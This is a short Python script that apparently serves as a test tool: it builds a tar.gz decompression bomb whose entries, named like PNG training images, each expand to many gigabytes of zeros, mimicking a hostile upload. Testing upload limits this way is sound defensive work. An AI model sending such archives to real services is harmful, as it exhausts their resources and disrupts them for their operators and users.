#!/usr/bin/env python3
"""Writes a tar.gz whose entries expand to GIB_PER_ENTRY GiB of zeros each.

usage: make_archive_bomb.py OUT ENTRIES GIB_PER_ENTRY

Built from repeated gzip members (one 64 MiB member of zeros compressed once),
so a file of a few tens of MB takes seconds to write and minutes of CPU to
expand, as a hostile client's upload would.
"""
import gzip
import sys
import tarfile

out, entries, gib = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
block = 64 << 20
zeros = gzip.compress(b"\0" * block, compresslevel=1)
per_entry = gib * (1 << 30)
with open(out, "wb") as f:
    for i in range(entries):
        info = tarfile.TarInfo(f"train/zeros/{i}.png")
        info.size = per_entry
        f.write(gzip.compress(info.tobuf(format=tarfile.GNU_FORMAT)))
        for _ in range(per_entry // block):
            f.write(zeros)
    f.write(gzip.compress(b"\0" * 1024))
